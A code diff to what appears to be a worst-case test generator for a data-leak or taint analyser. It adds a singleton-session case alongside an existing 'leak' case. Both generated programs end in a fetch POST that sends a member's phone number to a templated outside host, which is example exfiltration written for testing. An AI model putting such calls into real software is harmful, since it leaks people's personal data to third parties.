@@ -30,6 +30,7 @@ export const worstCases = [
   { name: 'one interface, many classes', size: 60, make: oneInterface },
   { name: 'a table for each caller', size: 1000, make: tableForEach },
   { name: 'a branch for each kind', size: 1000, make: branchForEach },
+  { name: 'one object from call to call', size: 1000, make: oneSession },
 ];
 
 /** Sixteen wrappers around one sink, and `size` callers of each. */
@@ -211,6 +212,29 @@ export async function leak(member: Member): Promise<void> {
   store.find(member.id, 1).phone = member.phone;
   await fetch('https://${host}/', { method: 'POST', body: JSON.stringify(store) });
 }
+`,
+  });
+}
+
+/** One object that a class keeps, called at the top of a file `size` times: each call leaves another version of the class. */
+function oneSession(size) {
+  const calls = list(size, (n) => `Session.get().login(given.name + '${n}');`);
+  return program({
+    'session.ts': `${header}declare const given: Member;
+class Session {
+  private static instance?: Session;
+  static current: { text: string } | null = null;
+  private user = { text: '' };
+  static get(): Session {
+    return (this.instance ??= new Session());
+  }
+  login(text: string): void {
+    this.user = { ...this.user, text };
+    Session.current = this.user;
+  }
+}
+${calls.join('\n')}
+await fetch('https://${host}/', { method: 'POST', body: (Session.current?.text ?? '') + given.phone });
 `,
   });
 }
